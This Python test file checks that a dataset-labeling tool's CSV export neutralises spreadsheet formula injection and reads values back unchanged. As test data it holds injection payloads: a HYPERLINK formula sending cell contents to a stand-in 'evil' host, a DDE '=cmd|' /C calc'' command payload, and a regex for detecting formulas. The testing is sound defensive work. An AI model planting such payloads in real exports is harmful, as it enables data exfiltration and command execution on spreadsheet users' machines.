"""CSV for spreadsheets: no cell is a formula, and what comes back is what went in."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from fvm_core.data.corrections import apply_corrections, with_corrections
from fvm_core.data.dataset import DatasetSpec, LabeledImages
from fvm_core.data.digits import open_digits
from fvm_core.data.spreadsheet import GUARD, csv_text, guarded, unguarded
from fvm_core.errors import DataError
from fvm_core.review.decision import Decision
from fvm_core.review.export import corrected_labels, write_export
from fvm_core.workspace import Workspace

EVIL = [
    '=HYPERLINK("http://evil/?"&A1,"cat")', "+1+1", "-2", "@SUM(1)", "\tx", "\r=1", "\n=1", "  =1+1", "＝1+1",
    "'", "'=1", "''=1", "'tis", "cat", "", "a,b", 'say "hi"', "a;=1", "a\r=1", "a\r\nb", "NA", "007", "été", "-0.5",
]  # fmt: skip
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")


def read_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_cell_starts_a_formula_and_all_come_back() -> None:
    text = csv_text(pd.DataFrame({"id": EVIL, "number": np.arange(len(EVIL)) - 3.5}))
    header, *rows = read_cells(text)
    assert header == ["id", "number", GUARD]
    assert not [row[0] for row in rows if FORMULA.match(row[0])]
    assert [float(row[1]) for row in rows] == [number - 3.5 for number in range(len(EVIL))]
    back = unguarded(pa.array([row[0] for row in rows]), pa.array([row[2] for row in rows]), path="x.csv")
    assert back.to_pylist() == EVIL


def test_a_table_without_formulas_is_left_alone() -> None:
    frame = pd.DataFrame({"id": ["'tis", "cat", None], "score": [-1.0, np.nan, 2.0], "good": [True, False, True]})
    pd.testing.assert_frame_equal(guarded(frame), frame)
    assert csv_text(frame) == '"id","score","good"\n"\'tis",-1.0,True\n"cat","",False\n"",2.0,True\n'


def test_missing_and_mixed_cells_stay_what_they_are() -> None:
    frame = pd.DataFrame({"a": ["=1", None, 3], "b": pd.Categorical(["-x", "y", "-x"]), "n": [1, 2, 3]})
    out = guarded(frame)
    assert out["a"].tolist() == ["'=1", None, 3] and out["b"].tolist() == ["'-x", "y", "'-x"]
    assert frame["a"].tolist() == ["=1", None, 3], "the table itself is not changed"


def evil_dataset() -> LabeledImages:
    """The first digits under ids and class names that a spreadsheet would compute."""
    digits = open_digits(DatasetSpec("digits", label="noisy"))
    n = len(EVIL)
    return LabeledImages(
        digits.spec, np.array(EVIL), np.arange(n, dtype=np.int64) % n, tuple(name or "empty" for name in EVIL),
        digits.source, digits.rows[:n],
    )  # fmt: skip


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_export_of_evil_names_loads_back_exactly(workspace: Workspace, suffix: str) -> None:
    dataset = evil_dataset()
    wanted = dataset.labels[::-1].copy()
    states = {
        str(sample): Decision(
            client="tab", seq=1, sample=str(sample), action="pick", label=int(label), given=int(given), suggested=None,
            run="r", method="m", score=-0.5, score_provenance="", number=1, undoes=None, reviewer="=cmd|' /C calc'!A0",
            decided_at="",
        )
        for sample, label, given in zip(dataset.ids, wanted, dataset.labels, strict=True)
    }  # fmt: skip
    files = write_export(workspace, "evil", corrected_labels(dataset, states), {})
    header, *rows = read_cells(files.csv.read_bytes().decode())
    texts = [place for place, name in enumerate(header) if name not in ("given_label", "label", "score", "suggested")]
    assert not [row[place] for row in rows for place in texts if FORMULA.match(row[place])]
    path = getattr(files, suffix)
    spec = with_corrections(dataset.spec, str(path))
    back = apply_corrections(replace(dataset, spec=spec))
    assert back.labels.tolist() == wanted.tolist()


def test_apostrophes_of_a_table_made_by_hand_are_kept(tmp_path: Path) -> None:
    dataset = evil_dataset()
    (tmp_path / "few.csv").write_text("id,name\n'=1,cat\n'tis,'tis\n")
    spec = DatasetSpec("digits", label="noisy", corrections=str(tmp_path / "few.csv"))
    back = apply_corrections(replace(dataset, spec=spec))
    assert back.labels[EVIL.index("'=1")] == EVIL.index("cat")
    assert np.flatnonzero(back.labels != dataset.labels).tolist() == [EVIL.index("'=1")]


def test_strange_mark_is_named(tmp_path: Path) -> None:
    dataset = evil_dataset()
    (tmp_path / "few.csv").write_text(f"id,name,{GUARD}\ncat,cat,backslash\n")
    spec = DatasetSpec("digits", label="noisy", corrections=str(tmp_path / "few.csv"))
    with pytest.raises(DataError, match=r"`formula_guard` in `.*few\.csv` must be 'apostrophe' or empty, got 'backsl"):
        apply_corrections(replace(dataset, spec=spec))
